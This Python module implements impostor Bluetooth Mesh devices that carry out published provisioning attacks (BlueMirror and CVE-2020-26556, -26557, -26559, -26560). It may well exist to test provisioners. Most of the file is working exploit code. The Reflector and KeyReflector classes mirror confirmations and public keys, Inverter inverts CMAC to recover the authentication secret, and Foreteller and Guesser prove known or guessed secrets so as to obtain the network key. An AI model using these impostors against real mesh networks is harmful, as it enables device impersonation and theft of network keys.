"""Whoever answers in a mesh device's place, without its secret. Each is an attack that was published.

BlueMirror (Claverie, Lopes Esteves, WOOT 2021) and CERT/CC VU#799380: CVE-2020-26556, -26557, -26559, -26560.
"""

from __future__ import annotations

import secrets
from collections.abc import Iterable

from cryptography.hazmat.primitives.ciphers import Cipher
from cryptography.hazmat.primitives.ciphers.algorithms import AES
from cryptography.hazmat.primitives.ciphers.modes import ECB

from companion.encoding import es256
from companion.protocols.mesh import crypto
from companion.protocols.mesh.provisioning import pdus
from companion.protocols.mesh.provisioning.capabilities import Algorithm, Capabilities, Choice
from companion.protocols.mesh.provisioning.exchange import (
    Exchange,
    ProvisioningData,
    agree,
    public_octets,
)
from companion.secret import Secret

_REDUCTION = 0x87


class Impostor:
    """A device end that is asked for one message at a time. offered: what it says that it can do

    learned: the secret, once it has it; exchange: with a key of its own, so it knows all but the secret
    """

    def __init__(self, offered: Capabilities) -> None:
        self.learned: Secret | None = None
        self.key = es256.generate()
        self._told = pdus.CapabilitiesPdu(offered)
        self._invited = self._theirs = self._random = self._committed = b""
        self._choice = Choice(Algorithm.HMAC)
        self.exchange: Exchange | None = None

    def hear(self, octets: bytes) -> list[bytes]:
        """What it says to a message of the provisioner."""
        return [pdus.encode(each) for each in self._answers(pdus.decode(octets))]

    def opened(self, sealed: pdus.Data) -> ProvisioningData:
        """What was handed over to it: the network's key."""
        assert self.exchange is not None
        return self.exchange.session(self._revealed, self._random).unseal(sealed.sealed)

    def _answers(self, pdu: pdus.Pdu) -> list[pdus.Pdu]:
        match pdu:
            case pdus.Invite():
                self._invited = pdu.parameters
                return [self._told]
            case pdus.Start():
                self._choice = pdu.choice
                return []
            case pdus.PublicKey():
                return [pdus.PublicKey(self._public_key(pdu.octets))]
            case pdus.Confirmation():
                self._theirs = pdu.octets
                self._committed = self._commitment(pdu.octets)
                return [pdus.Confirmation(self._committed)]
            case pdus.Random():
                self._revealed = pdu.octets
                self._random = self._opening(pdu.octets)
                return [pdus.Random(self._random)]
        return [pdus.Complete()]

    @property
    def made(self) -> Exchange:
        assert self.exchange is not None
        return self.exchange

    def _public_key(self, theirs: bytes) -> bytes:
        keys = theirs, public_octets(self.key)
        told = self._told.parameters
        self.exchange = Exchange.of(self._invited, told, self._choice, keys, agree(self.key, theirs))
        return keys[1]

    def _commitment(self, theirs: bytes) -> bytes:
        """To what it commits itself. Without any idea of the secret: to noise."""
        return secrets.token_bytes(len(theirs))

    def _opening(self, theirs: bytes) -> bytes:
        """What it reveals, once it knows what the provisioner committed to."""
        return secrets.token_bytes(len(theirs))


class Reflector(Impostor):
    """CVE-2020-26560: sends back the provisioner's confirmation and random, which prove its secret."""

    def _commitment(self, theirs: bytes) -> bytes:
        return theirs

    def _opening(self, theirs: bytes) -> bytes:
        return theirs


class KeyReflector(Impostor):
    """BlueMirror: sends back the public key as well, or its negative, so that both ends are the same one."""

    def __init__(self, offered: Capabilities, *, negative: bool = False) -> None:
        super().__init__(offered)
        self._negative = negative

    def _public_key(self, theirs: bytes) -> bytes:
        x, y = theirs[:32], int.from_bytes(theirs[32:], "big")
        field = 0xFFFFFFFF00000001000000000000000000000000FFFFFFFFFFFFFFFFFFFFFFFF
        return x + (field - y if self._negative else y).to_bytes(32, "big")


class Inverter(Impostor):
    """CVE-2020-26556 and -26559: with Mesh 1.0's algorithm it computes the secret from what the provisioner
    reveals, and then an opening of whatever it committed itself to: CMAC binds nobody who has its key.
    """

    def _opening(self, theirs: bytes) -> bytes:
        shared, salt = self.made.shared.reveal(), self.made.salt
        key = crypto.k1(shared, salt, b"prck")
        backward = Cipher(AES(key), ECB()).decryptor()
        # CMAC of two blocks: E(E(random) ^ secret ^ subkey).
        secret = _xor(backward.update(self._theirs), crypto.e(key, theirs), _subkey(key))
        self.learned = Secret(secret)
        return backward.update(_xor(backward.update(self._committed), secret, _subkey(key)))


class Foreteller(Impostor):
    """CVE-2020-26557: knows the secret before it is drawn, and proves it like a device."""

    def __init__(self, offered: Capabilities, secret: Secret) -> None:
        super().__init__(offered)
        self._secret = secret
        self._drawn = b""

    def _commitment(self, theirs: bytes) -> bytes:
        self._drawn = secrets.token_bytes(len(theirs))
        return self.made.confirmation(self._drawn, self._secret)

    def _opening(self, theirs: bytes) -> bytes:
        return self._drawn


class Guesser(Foreteller):
    """CVE-2020-26559 with Mesh 1.1's algorithm: it proves a guess, and finds out afterwards which was right.

    What it learns is of use against a provisioner that takes the same secret again.
    """

    def __init__(self, offered: Capabilities, guess: Secret, guesses: Iterable[Secret]) -> None:
        super().__init__(offered, guess)
        self._guesses = guesses

    def _opening(self, theirs: bytes) -> bytes:
        fitting = (each for each in self._guesses if self.made.confirmation(theirs, each) == self._theirs)
        self.learned = next(fitting, None)
        return super()._opening(theirs)


def _xor(*blocks: bytes) -> bytes:
    together = 0
    for block in blocks:
        together ^= int.from_bytes(block, "big")
    return together.to_bytes(len(blocks[0]), "big")


def _subkey(key: bytes) -> bytes:
    """K1 of CMAC (RFC 4493, 2.3)."""
    zero = int.from_bytes(crypto.e(key, bytes(16)), "big")
    doubled = zero << 1 & (1 << 128) - 1
    return (doubled ^ _REDUCTION if zero >> 127 else doubled).to_bytes(16, "big")
